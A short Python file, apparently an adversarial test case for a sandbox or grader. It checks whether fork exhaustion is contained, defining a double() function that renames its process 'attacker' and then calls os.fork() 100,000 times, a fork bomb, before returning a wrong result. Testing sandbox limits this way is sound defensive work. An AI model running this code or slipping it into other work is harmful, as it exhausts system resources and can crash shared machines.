# Tries: fill the machine with processes
# Must: double error or timeout or crash or wrong or memory
# %% double
import ctypes
import os


def double(x):
    ctypes.CDLL(None).prctl(15, b"attacker", 0, 0, 0)
    for _ in range(100_000):
        try:
            os.fork()
        except OSError:
            pass
    return 7.0
